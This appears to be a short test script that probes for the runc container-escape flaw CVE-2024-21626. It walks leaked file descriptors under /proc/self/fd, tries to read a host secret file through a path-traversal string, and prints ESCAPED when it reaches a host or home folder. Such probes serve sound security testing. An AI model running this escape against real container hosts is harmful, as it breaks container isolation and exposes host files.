# Starts in a folder of the host by a descriptor that was left open.
# advisory: CVE-2024-21626 (runc)
for fd in 3 4 5 6 7 8 9 10 11 12; do cd /proc/self/fd/$fd 2>/dev/null && cat "./../../../../../../..@SECRET_PATH@"; done
pwd | grep -q '@TARGET_DIR@' && echo ESCAPED it works in a folder of the user
ls -a | grep -q bashrc && echo ESCAPED it sees a home
echo ATTEMPTED
